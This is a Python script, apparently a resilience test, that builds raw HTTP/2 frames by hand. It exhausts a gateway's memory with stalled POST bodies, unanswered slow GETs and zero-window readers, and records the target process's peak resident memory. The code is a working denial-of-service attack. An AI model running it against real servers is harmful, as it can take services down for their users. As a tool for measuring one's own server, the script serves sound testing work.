"""Attacks on the memory of a server, over HTTP/2 without TLS at a gateway, at the byte level: no library would do this.

    attack.py KIND HOST:PORT CONNECTIONS STREAMS PID SECONDS

bodies: each stream sends a POST whose body ends just below 1 MiB and is never finished
gets: each stream sends a GET of a path of its own below /slow, which the origin does not answer
readers: each stream asks for /big and never grants a byte of window

Prints one line of JSON: the resident memory of the process before and the most during the attack, in MB, and what was answered.
"""

import json
import socket
import struct
import sys
import time
from pathlib import Path

BODY = 1_047_576
BLOCK = b"x" * 16_384
DATA, HEADERS, RESET, SETTINGS, GOAWAY, WINDOW = 0, 1, 3, 4, 7, 8
REFUSED_STREAM = 7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value.encode()


def head(stream, method, path, authority, ends=True, fields=()):
    all_fields = ((":method", method), (":scheme", "http"), (":authority", authority), (":path", path), *fields)
    return frame(HEADERS, 5 if ends else 4, stream, b"".join(b"\0" + text(name) + text(value) for name, value in all_fields))


def resident(pid):
    status = Path(f"/proc/{pid}/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmRSS")).split()[1]) / 1024


class Client:
    """One connection, and what it may still send of each body."""

    def __init__(self, address, window):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)))
        self.outgoing = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))
        self.incoming = b""
        self.refused = self.answered = 0
        self.closed = False
        self.initial = self.window = 65_535
        self.granted = {}
        self.left = {}
        self.socket.setblocking(False)

    def pump(self):
        """Sends and receives what the socket takes and has."""
        try:
            if self.outgoing:
                self.outgoing = self.outgoing[self.socket.send(self.outgoing[: 1 << 18]) :]
            while data := self.socket.recv(1 << 16):
                self.incoming += data
            self.closed = True
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        while len(self.incoming) >= 9 and len(self.incoming) >= 9 + int.from_bytes(self.incoming[:3], "big"):
            length = int.from_bytes(self.incoming[:3], "big")
            kind, flags, stream = self.incoming[3], self.incoming[4], int.from_bytes(self.incoming[5:9], "big") & 0x7FFF_FFFF
            payload, self.incoming = self.incoming[9 : 9 + length], self.incoming[9 + length :]
            self.receive(kind, flags, stream, payload)

    def receive(self, kind, flags, stream, payload):
        if kind == RESET:
            self.left.pop(stream, None)
            self.refused += int.from_bytes(payload, "big") == REFUSED_STREAM
        elif kind == HEADERS:
            self.answered += 1
        elif kind == SETTINGS and not flags & 1:
            for place in range(0, len(payload), 6):
                if payload[place : place + 2] == b"\0\4":
                    self.initial = int.from_bytes(payload[place + 2 : place + 6], "big")
            self.outgoing += frame(SETTINGS, 1, 0)
        elif kind == WINDOW and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW:
            self.granted[stream] = self.granted.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == GOAWAY:
            self.closed = True

    def feed(self):
        """Adds as much of the bodies as the windows permit."""
        for stream, left in list(self.left.items()):
            count = min(left, len(BLOCK), self.initial + self.granted.get(stream, 0), self.window)
            if len(self.outgoing) > 1 << 18:
                return
            if count > 0:
                self.outgoing += frame(DATA, 0, stream, BLOCK[:count])
                self.window -= count
                self.granted[stream] = self.granted.get(stream, 0) - count
                self.left[stream] = left - count


def main():
    kind, address, connections, streams, pid, seconds = sys.argv[1:]
    connections, streams = int(connections), int(streams)
    before = most = resident(pid)
    clients = []
    for number in range(connections):
        client = Client(address, 0 if kind == "readers" else 65_535)
        for place in range(streams):
            stream = 2 * place + 1
            if kind == "bodies":
                fields = (("content-length", str(BODY + 1)), ("content-type", "application/octet-stream"))
                client.outgoing += head(stream, "POST", f"/upload/{number}-{place}", address, ends=False, fields=fields)
                client.left[stream] = BODY
            else:
                client.outgoing += head(stream, "GET", "/big" if kind == "readers" else f"/slow/{number}-{place}", address)
        clients.append(client)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for client in clients:
            if not client.closed:
                client.pump()
                client.feed()
        most = max(most, resident(pid))
        time.sleep(0.002)
    sent = sum(BODY - left for client in clients for left in client.left.values())
    report = {"before": before, "most": most, "sent": sent >> 20}
    report |= {name: sum(getattr(client, name) for client in clients) for name in ("refused", "answered", "closed")}
    print(json.dumps({name: round(value) for name, value in report.items()}))


main()
